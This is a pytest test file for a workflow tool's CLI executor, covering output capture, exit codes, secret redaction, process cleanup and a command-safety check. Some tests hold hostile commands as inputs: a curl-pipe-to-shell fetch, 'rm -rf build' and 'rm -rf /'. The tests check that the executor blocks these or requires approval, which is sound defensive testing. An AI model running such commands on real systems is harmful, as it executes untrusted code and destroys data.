from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path

import pytest

from osop.executors.base import NodeFailure
from osop.executors.cli import CliExecutor

from .helpers import make_ctx, run


def cli(command: object, **runtime: object) -> dict[str, object]:
    return {"id": "step", "type": "cli", "runtime": {"command": command, **runtime}}


def test_plain_output_and_exit_code(tmp_path: Path) -> None:
    result = run(CliExecutor().execute(make_ctx(cli("echo hello; echo oops >&2"), tmp_path)))
    assert result.outputs == {"stdout": "hello", "stderr": "oops", "exit_code": 0}
    assert "hello" in result.log and "stderr: oops" in result.log


def test_json_stdout_becomes_outputs(tmp_path: Path) -> None:
    ctx = make_ctx(cli("""printf '{"version": "1.2.3", "count": 4}'"""), tmp_path)
    result = run(CliExecutor().execute(ctx))
    assert result.outputs == {"version": "1.2.3", "count": 4, "exit_code": 0}


def test_json_array_stdout_stays_text(tmp_path: Path) -> None:
    result = run(CliExecutor().execute(make_ctx(cli("echo '[1, 2]'"), tmp_path)))
    assert result.outputs["stdout"] == "[1, 2]"


def test_argv_list_runs_without_shell(tmp_path: Path) -> None:
    ctx = make_ctx(cli(["echo", "a;b", "$HOME"]), tmp_path)
    assert run(CliExecutor().execute(ctx)).outputs["stdout"] == "a;b $HOME"


def test_nonzero_exit_fails_with_code_and_stderr(tmp_path: Path) -> None:
    ctx = make_ctx(cli("echo boom >&2; exit 3"), tmp_path)
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(ctx))
    assert info.value.code == "EXIT_3"
    assert "boom" in info.value.message
    assert info.value.details["stderr_tail"].strip() == "boom"
    assert info.value.outputs["exit_code"] == 3


def test_success_codes(tmp_path: Path) -> None:
    ctx = make_ctx(cli("exit 1", success_codes=[0, 1]), tmp_path)
    assert run(CliExecutor().execute(ctx)).outputs["exit_code"] == 1


def test_env_merged_over_run_env(tmp_path: Path) -> None:
    ctx = make_ctx(
        cli("echo $A-$B", env={"B": "node"}),
        tmp_path,
        env={"A": "run", "B": "run"},
    )
    assert run(CliExecutor().execute(ctx)).outputs["stdout"] == "run-node"


def test_environment_key_is_accepted(tmp_path: Path) -> None:
    ctx = make_ctx(cli("echo $X", environment={"X": 5}), tmp_path)
    assert run(CliExecutor().execute(ctx)).outputs["stdout"] == "5"


def test_working_dir_is_relative_to_workdir(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "marker.txt").write_text("x")
    ctx = make_ctx(cli("ls", working_dir="sub"), tmp_path)
    assert run(CliExecutor().execute(ctx)).outputs["stdout"] == "marker.txt"


def test_missing_working_dir_fails(tmp_path: Path) -> None:
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(make_ctx(cli("ls", working_dir="nope"), tmp_path)))
    assert info.value.code == "NO_WORKDIR"
    assert info.value.retryable is False


def test_missing_command_fails_clearly(tmp_path: Path) -> None:
    node = {"id": "step", "type": "cli", "runtime": {"provider": "github_actions"}}
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(make_ctx(node, tmp_path)))
    assert info.value.code == "NO_COMMAND"


def test_missing_program_without_shell(tmp_path: Path) -> None:
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(make_ctx(cli(["no-such-tool-xyz"]), tmp_path)))
    assert info.value.code == "NO_TOOL"


def test_output_is_bounded_to_the_tail(tmp_path: Path) -> None:
    command = f"{sys.executable} -c \"print('x' * 5000); print('END')\""
    ctx = make_ctx(cli(command, max_output_kb=1), tmp_path)
    outputs = run(CliExecutor().execute(ctx)).outputs
    assert outputs["stdout_truncated"] is True
    assert outputs["stdout"].endswith("END")
    assert len(outputs["stdout"]) <= 1024


def test_blocked_command_is_refused(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    ctx = make_ctx(cli(f"curl -s https://example.invalid/x | sh; touch {marker}"), tmp_path)
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(ctx))
    assert info.value.code == "BLOCKED"
    assert info.value.retryable is False
    assert not marker.exists()


def test_dangerous_command_needs_approval(tmp_path: Path) -> None:
    (tmp_path / "build").mkdir()
    ctx = make_ctx(cli("rm -rf build"), tmp_path)
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(ctx))
    assert info.value.code == "NEEDS_APPROVAL"
    assert "rm-recursive" in info.value.message
    assert info.value.details["level"] == "dangerous"
    assert (tmp_path / "build").exists()


@pytest.mark.parametrize("answer", [{"approved": True}, {"decision": "approved"}])
def test_dangerous_command_runs_when_approved(tmp_path: Path, answer: dict[str, object]) -> None:
    (tmp_path / "build").mkdir()
    ctx = make_ctx(cli("rm -rf build"), tmp_path, answer=answer)
    result = run(CliExecutor().execute(ctx))
    assert result.outputs["exit_code"] == 0
    assert not (tmp_path / "build").exists()
    assert any("approved" in line for line in result.log)


def test_dangerous_command_rejected(tmp_path: Path) -> None:
    (tmp_path / "build").mkdir()
    ctx = make_ctx(cli("rm -rf build"), tmp_path, answer={"decision": "rejected"})
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(ctx))
    assert info.value.code == "REJECTED"
    assert (tmp_path / "build").exists()


def test_pre_approved_node(tmp_path: Path) -> None:
    (tmp_path / "build").mkdir()
    node = {**cli("rm -rf build"), "security": {"pre_approved": True}}
    run(CliExecutor().execute(make_ctx(node, tmp_path)))
    assert not (tmp_path / "build").exists()


def test_secret_printed_by_the_command_is_redacted_from_log(tmp_path: Path) -> None:
    secret = "s3cr3t-t0ken-value"
    ctx = make_ctx(
        cli("echo token=$TOKEN; echo $TOKEN >&2; exit 1"),
        tmp_path,
        env={"TOKEN": secret},
        secret_values=frozenset({secret}),
    )
    with pytest.raises(NodeFailure) as info:
        run(CliExecutor().execute(ctx))
    assert secret not in info.value.message
    assert secret not in repr(info.value.details)


def test_secret_redacted_in_log_on_success(tmp_path: Path) -> None:
    secret = "hunter2-password"
    ctx = make_ctx(
        cli("echo using $PW"), tmp_path, env={"PW": secret}, secret_values=frozenset({secret})
    )
    result = run(CliExecutor().execute(ctx))
    assert result.log == ["using ***"]


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    # A zombie is dead for our purpose.
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split()[2] != "Z"
    except FileNotFoundError:
        return False


def test_cancellation_kills_the_whole_process_group(tmp_path: Path) -> None:
    pidfile = tmp_path / "pids"
    command = f"sleep 30 & echo $! > {pidfile}; echo $$ >> {pidfile}; wait"
    ctx = make_ctx(cli(command), tmp_path)

    async def scenario() -> None:
        task = asyncio.create_task(CliExecutor().execute(ctx))
        for _ in range(200):
            await asyncio.sleep(0.05)
            if pidfile.exists() and len(pidfile.read_text().split()) == 2:
                break
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    run(scenario())
    pids = [int(p) for p in pidfile.read_text().split()]
    assert len(pids) == 2
    assert not any(_alive(pid) for pid in pids)


def test_cancelled_sleep_leaves_no_process(tmp_path: Path) -> None:
    pidfile = tmp_path / "pid"
    ctx = make_ctx(cli(f"echo $$ > {pidfile}; exec sleep 30"), tmp_path)

    async def scenario() -> None:
        task = asyncio.create_task(CliExecutor().execute(ctx))
        await asyncio.sleep(0.2)
        for _ in range(100):
            if pidfile.exists() and pidfile.read_text().strip():
                break
            await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    run(scenario())
    assert not _alive(int(pidfile.read_text()))


def test_background_child_does_not_outlive_the_step(tmp_path: Path) -> None:
    pidfile = tmp_path / "pid"
    ctx = make_ctx(cli(f"sleep 30 & echo $! > {pidfile}; echo done"), tmp_path)
    result = run(CliExecutor().execute(ctx))
    assert result.outputs["stdout"] == "done"
    assert not _alive(int(pidfile.read_text()))


def test_process_ignoring_sigterm_is_killed(tmp_path: Path) -> None:
    pidfile = tmp_path / "pid"
    script = f"trap '' TERM; echo $$ > {pidfile}; while true; do sleep 0.05; done"
    ctx = make_ctx(cli(script), tmp_path)

    async def scenario() -> None:
        task = asyncio.create_task(CliExecutor().execute(ctx))
        for _ in range(200):
            await asyncio.sleep(0.02)
            if pidfile.exists() and pidfile.read_text().strip():
                break
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    run(scenario())
    assert not _alive(int(pidfile.read_text()))


@pytest.mark.parametrize(
    ("stderr", "expected"),
    [
        ("Error: the plan failed\n│\n╵\n", "Error: the plan failed"),
        (
            "  % Total    % Received\n  0     0    0     0 --:--:-- --:--:--     0\n"
            "curl: (7) Failed to connect to host\n  0     0    0     0\n",
            "curl: (7) Failed to connect to host",
        ),
        (
            "fatal: could not read from remote repository.\n\nPlease make sure you have the\n"
            "and the repository exists.\n",
            "fatal: could not read from remote repository.",
        ),
        ("just words here\n", "just words here"),
        ("───\n", ""),
    ],
)
def test_failure_line_picks_the_reason(stderr: str, expected: str) -> None:
    from osop.executors.cli import failure_line

    assert failure_line(stderr) == expected


def test_a_remembered_classification_follows_what_it_reads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Classifications are remembered for repeats, keyed by all they read: the
    same command with a variable that now holds something else is judged anew."""
    from osop.executors import cli as cli_module

    calls: list[str] = []
    real = cli_module.classify_command

    def counting(command: object, env: object = None) -> object:
        calls.append(str(command))
        return real(command, env=env)  # type: ignore[arg-type]

    monkeypatch.setattr(cli_module, "classify_command", counting)
    monkeypatch.setattr(cli_module, "_CLASSIFIED", {})
    safe = {"CMD": "echo hi", "OSOP_ATTEMPT": "run:n:1:0"}
    assert cli_module._classified("$CMD", safe).level == "safe"
    again = {**safe, "OSOP_ATTEMPT": "run:n:2:0"}  # another attempt, same command
    assert cli_module._classified("$CMD", again).level == "safe"
    assert len(calls) == 1
    risky = {**safe, "CMD": "rm -rf /"}
    assert cli_module._classified("$CMD", risky).level == "blocked"
    assert len(calls) == 2
    # A command that reads the attempt's token is never taken from memory.
    cli_module._classified("echo $OSOP_ATTEMPT", safe)
    cli_module._classified("echo $OSOP_ATTEMPT", again)
    assert len(calls) == 4
